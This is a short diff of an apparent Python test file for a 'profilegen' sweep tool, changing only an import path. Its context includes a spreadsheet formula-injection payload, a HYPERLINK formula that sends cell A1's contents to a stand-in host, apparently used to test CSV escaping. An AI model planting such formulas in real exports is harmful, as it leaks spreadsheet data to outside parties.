@@ -10,7 +10,7 @@ from concurrent.futures import ThreadPoolExecutor
 
 import pytest
 
-from profilegen.sweep import csv_text, parse_sweep_spec, run_sweep, write_table
+from profilegen.studies.sweep import csv_text, parse_sweep_spec, run_sweep, write_table
 
 FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
 
